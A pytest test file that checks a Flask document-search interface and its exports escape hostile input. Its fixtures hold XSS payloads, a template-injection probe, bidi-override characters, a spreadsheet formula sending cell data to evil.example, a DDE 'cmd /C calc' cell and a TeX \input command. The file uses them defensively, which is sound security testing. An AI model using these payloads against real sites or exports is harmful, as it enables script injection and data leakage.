"""Hostile text of documents on every page and in every export: shown as text, and as nothing else.

Markup, scripts, characters that turn the direction of text or that XML does not know, a word of ten
thousand characters, emoji with joiners, commands of TeX, and cells that a spreadsheet would
evaluate; as titles, headings, cells, names and agencies.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import TYPE_CHECKING

import lxml.etree
import lxml.html
import pytest

from indexer.run.pipeline import Options, run
from judian.engines.memory import MemoryEngine
from judian.search.service import Service
from webui.app import create_app
from webui.keeper.room import Room

if TYPE_CHECKING:
    from collections.abc import Iterator

    from flask.testing import FlaskClient

MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script>\"' onmouseover=alert(3) {{191*7}}"
TURNED = "反轉\u202e遣返人數\u202c結束\u2067孤立"
EMOJI = "家庭👩\u200d👩\u200d👧\u200d👦旗🏳️\u200d🌈"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"點我")'
LONG = "長" * 10_000
#: Characters that XML does not know, lines that are none, tags of no language, marks on one letter,
#: and what TeX would read.
ODD = "非字元\ufffe\uffff分行\u2028\u0085標籤\U000e0041組合e" + "\u0301" * 300 + "}}\\input{x}"
REPORT = f"""# {FORMULA} {MARKUP}

資料提供：雲海縣{TURNED}港務局

## {MARKUP}

112年遣返{MARKUP}共506名，{TURNED}，{EMOJI}。依「海峽兩岸{MARKUP}司法互助協議」第4條辦理。

{LONG}

113年遣返{ODD}共7名。

## {TURNED}{EMOJI}

表1 {FORMULA}

| 項目 | {MARKUP} | @SUM(A1) |
| --- | --- | --- |
| {FORMULA} | 12 | +34 |
| -2+3+cmd\\|' /C calc'!A0 | {TURNED} | {EMOJI} |
"""
QUERIES = ("遣返", "112年遣返多少名？", MARKUP, TURNED, EMOJI, FORMULA, LONG[:1500], "港務局", ODD)
#: Elements and attributes that only hostile text could have put on a page.
FOREIGN = "//img[@src='x'] | //*[@onerror] | //*[@onmouseover] | //script[contains(., 'alert')]"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FlaskClient]:
    folder = tmp_path_factory.mktemp("hostile")
    sources = folder / "sources"
    sources.mkdir()
    (sources / "<b>&\u202e報告.md").write_text(REPORT, encoding="utf-8")
    rows = [["file", "title", "agency", "date"], ["<b>&\u202e報告.md", "", MARKUP, "2023"]]
    (sources / "SOURCES.tsv").write_text("\n".join(map("\t".join, rows)), encoding="utf-8")
    engine = MemoryEngine()
    report = run(engine, folder / "index", [sources], Options(jobs=1))
    assert len(report.added) == 1
    room = Room("", folder / "index", sources, "memory")
    app = create_app({"INDEX": folder / "index", "ROOMS": {"": room}}, Service(engine))
    with app.test_client() as opened:
        yield opened


def address(path: str, **values: str) -> tuple[str, dict[str, str]]:
    return path, values


def pages(client: FlaskClient) -> list[tuple[str, dict[str, str]]]:
    """Every page over the document."""
    (doc,) = client.get("/api/v1/documents").get_json()["documents"]
    passages = client.get("/api/v1/search", query_string={"q": "遣返"}).get_json()["hits"]
    named = client.get("/api/v1/instruments").get_json()["instruments"]
    kinds = ("agency", "person", "place", "ship", "substance", "case")
    return [
        *(address(path) for path in ("/", "/documents", "/documents/reading", "/overview")),
        *(address(path) for path in ("/entities", "/keeper", "/instruments", "/authorities")),
        *(address(path) for path in ("/batch", "/search/open", "/figures", "/help")),
        *(address("/entities", kind=kind) for kind in kinds),
        *(address("/search", q=query) for query in QUERIES),
        *(address("/figures", q=query) for query in (MARKUP, FORMULA)),
        *(address("/authorities", q=query) for query in (MARKUP, TURNED)),
        *(address(f"/documents/{doc['id']}", q=query) for query in (MARKUP, EMOJI)),
        *(address(f"/passages/{hit['id']}/cite") for hit in passages[:3]),
        *(address(f"/instruments/{one['id']}") for one in named),
        address("/keeper/source", file="<b>&\u202e報告.md"),
    ]


def test_pages_show_it_as_text(client: FlaskClient) -> None:
    shown = 0
    for path, values in pages(client):
        reply = client.get(path, query_string=values)
        assert reply.status_code == 200, (path, values)
        page = lxml.html.document_fromstring(reply.text)
        assert not page.xpath(FOREIGN), (path, values)
        assert "1337" not in reply.text, "no template is run"
        shown += "onerror=alert(1)" in "".join(page.itertext())
    assert shown > 20, "the text itself is there"


def test_batches_show_it_as_text(client: FlaskClient) -> None:
    terms = "\n".join(query.replace("\n", " ") for query in QUERIES)
    reply = client.post("/batch", data={"terms": terms})
    page = lxml.html.document_fromstring(reply.text)
    assert reply.status_code == 200
    assert not page.xpath(FOREIGN)
    assert "onerror=alert(1)" in "".join(page.itertext())


@pytest.mark.parametrize("text", [MARKUP, TURNED, EMOJI, FORMULA, ODD, LONG[:1500]])
def test_what_is_checked_is_shown_as_text(client: FlaskClient, text: str) -> None:
    quotation = f"{text}112年遣返共506名，依司法互助協議第4條辦理。"
    for path, values in (
        ("/verify-quote", {"text": quotation}),
        ("/audit", {"text": f"「{quotation}」{text}", "format": "page"}),
        ("/search/open", {"text": f'{{"kind": "{text}"}}'}),
    ):
        reply = client.post(path, data=values)
        assert reply.status_code in (200, 400), path
        page = lxml.html.document_fromstring(reply.text)
        assert not page.xpath(FOREIGN), path
        assert "1337" not in reply.text


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/export?q=遣返&format=csv",
        "/api/v1/export?q=港務局&format=csv",
        "/api/v1/figures?format=csv",
        "/api/v1/instruments?format=csv",
        "/api/v1/authorities?format=csv",
        "/api/v1/documents?format=csv",
    ],
)
def test_no_cell_of_a_table_is_evaluated(client: FlaskClient, path: str) -> None:
    reply = client.get(path)
    found = cells(reply.text)
    assert reply.status_code == 200
    assert found
    assert not [c for c in found if re.match(r"\s*[=+\-@＝＋－＠]", c) and not is_number(c)]


def test_no_cell_of_a_batch_is_evaluated(client: FlaskClient) -> None:
    terms = "\n".join(["=1+1", "@SUM(A1)", "+34", "-2+3", *QUERIES[:3]])
    reply = client.post("/batch", data={"terms": terms, "format": "csv"})
    found = cells(reply.text)
    assert any("=1+1" in cell for cell in found)
    assert not [c for c in found if re.match(r"\s*[=+\-@＝＋－＠]", c) and not is_number(c)]


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+", cell) is not None


@pytest.mark.parametrize("form", ["docx", "odt"])
def test_memos_are_whole_and_turn_no_text(client: FlaskClient, form: str) -> None:
    reply = client.get(f"/api/v1/export?q=遣返&format={form}")
    assert reply.status_code == 200
    with zipfile.ZipFile(io.BytesIO(reply.data)) as package:
        texts = ""
        for name in package.namelist():
            if name.endswith(".xml"):
                tree = lxml.etree.fromstring(package.read(name))
                texts += "".join(tree.itertext())
                assert not tree.xpath("//*[local-name()='script' or local-name()='img']")
    assert "onerror=alert(1)" in texts
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", texts)


def test_feeds_and_saved_searches_hold_it_as_text(client: FlaskClient) -> None:
    for query in ("遣返", "港務局", MARKUP):
        reply = client.get("/feed", query_string={"q": query})
        tree = lxml.etree.fromstring(reply.data)
        assert reply.status_code == 200
        assert not tree.xpath("//*[local-name()='script' or local-name()='img']")
        for content in tree.xpath("//*[@type='html' or @type='xhtml']/text()"):
            assert not lxml.html.fragment_fromstring(content, "div").xpath(FOREIGN)
    saved = client.get("/search/save", query_string={"q": MARKUP})
    assert json.loads(saved.text)["parameters"]["q"] == MARKUP
    for path in ("/api/v1/export?q=遣返&format=json", "/api/v1/search?q=遣返", "/api/v1/documents"):
        reply = client.get(path)
        assert reply.mimetype == "application/json"
        assert "onerror=alert(1)" in json.dumps(reply.get_json(), ensure_ascii=False)


@pytest.mark.parametrize("form", ["ris", "bibtex", "csl-json"])
def test_records_of_reference_managers_stay_records(client: FlaskClient, form: str) -> None:
    reply = client.get(f"/api/v1/export?q=遣返&format={form}")
    assert reply.status_code == 200
    text = reply.get_data(as_text=True)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)
    if form == "ris":
        lines = [line for line in text.split("\r\n") if line]
        assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in lines)
    if form == "bibtex":
        assert not re.search(r"(?<!\\)\\input", text)
        signs = re.sub(r"\\[{}]", "", text)
        assert signs.count("{") == signs.count("}")
    if form == "csl-json":
        assert json.loads(text)
